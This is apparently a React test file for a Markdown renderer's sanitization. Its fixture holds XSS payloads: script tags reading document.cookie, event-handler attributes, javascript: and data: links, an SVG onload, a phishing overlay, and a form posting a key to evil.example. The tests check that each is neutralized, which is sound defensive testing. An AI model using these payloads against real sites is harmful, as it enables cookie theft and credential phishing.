/* eslint-disable testing-library/no-node-access, testing-library/no-container --
   A safety test inspects the DOM itself: no query by role sees script elements, event-handler
   attributes or where a text sits. */
import { render, screen, within } from '@testing-library/react';
import { describe, expect, it, vi } from 'vitest';
import { Markdown } from './markdown';

const HOSTILE = [
  '# Connect <b onmouseover="alert(1)">Evil</b>',
  '',
  '<script>alert("stolen " + document.cookie)</script>',
  '',
  'Paste your key: <img src="x" onerror="alert(1)"> <iframe src="https://evil.example"></iframe>',
  '',
  '- [Open the admin page](javascript:alert(1))',
  '- [Run](JAVASCRIPT:alert(1)) and [tab]( java\tscript:alert(1))',
  '- [Download the helper](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '- ![tracker](https://evil.example/pixel.gif) and ![inline](data:image/svg+xml,<svg onload=alert(1)>)',
  '- [Ticketly API keys](https://help.ticketly.example/api-keys)',
  '',
  '<a href="https://phish.example" style="position:fixed;inset:0">Click anywhere</a>',
  '<style>body { display: none }</style><form action="https://evil.example"><input name="key"></form>',
  '',
  '> <svg><script>alert(1)</script></svg> **bold** `<code>`',
].join('\n');

function renderHostile() {
  const alert = vi.spyOn(window, 'alert').mockImplementation(() => undefined);
  const { container } = render(<Markdown source={HOSTILE} headingLevel={3} />);
  return { container, alert };
}

describe('Markdown with hostile input', () => {
  it('creates no element that could run code, load something or submit', () => {
    const { container, alert } = renderHostile();
    expect(
      container.querySelectorAll('script, img, iframe, svg, style, form, input, object, embed'),
    ).toHaveLength(0);
    for (const element of container.querySelectorAll('*')) {
      const names = [...element.attributes].map((attribute) => attribute.name);
      expect(names.filter((name) => name.startsWith('on') || name === 'style')).toEqual([]);
      expect(names.filter((name) => name === 'src' || name === 'action')).toEqual([]);
    }
    expect(alert).not.toHaveBeenCalled();
  });

  it('shows raw HTML as the text it is', () => {
    renderHostile();
    expect(
      screen.getByText('<script>alert("stolen " + document.cookie)</script>'),
    ).toBeInTheDocument();
    expect(screen.getByText(/<img src="x" onerror="alert\(1\)">/)).toBeInTheDocument();
    expect(screen.getByText(/<a href="https:\/\/phish\.example"/)).toBeInTheDocument();
  });

  it('links only http(s) addresses, in a new tab without opener or referrer', () => {
    renderHostile();
    const links = screen.getAllByRole('link');
    expect(links.map((link) => link.textContent)).toEqual(['Image: tracker', 'Ticketly API keys']);
    for (const link of links) {
      expect(link).toHaveAttribute('href', expect.stringMatching(/^https:\/\//));
      expect(link).toHaveAttribute('target', '_blank');
      expect(link.getAttribute('rel')?.split(' ')).toEqual(
        expect.arrayContaining(['noopener', 'noreferrer']),
      );
    }
    for (const label of ['Open the admin page', 'Run', 'tab', 'Download the helper']) {
      const text = screen.getByText(label, { exact: false, selector: '.md-blocked-link' });
      expect(text.closest('a')).toBeNull();
      expect(text).toHaveTextContent('(link removed)');
    }
    expect(
      screen.getByText('Open the admin page', { exact: false, selector: '.md-blocked-link' }),
    ).toHaveAttribute('title', expect.stringMatching(/^Not opened: a javascript: address/));
  });

  it('keeps the Markdown it understands, with headings fitted to the page outline', () => {
    renderHostile();
    expect(screen.getByRole('heading', { level: 3 })).toHaveTextContent(
      'Connect <b onmouseover="alert(1)">Evil</b>',
    );
    expect(screen.getAllByRole('listitem')).toHaveLength(5);
    const quote = screen.getByText('bold').closest('blockquote');
    expect(quote).not.toBeNull();
    expect(within(quote as HTMLElement).getByText('<code>').tagName).toBe('CODE');
  });

  it('renders nothing but the fallback for empty or non-text input', () => {
    const { container } = render(<Markdown source={{ html: '<b>' }} empty="No instructions." />);
    expect(container).toHaveTextContent('No instructions.');
    expect(container.querySelector('b')).toBeNull();
  });
});
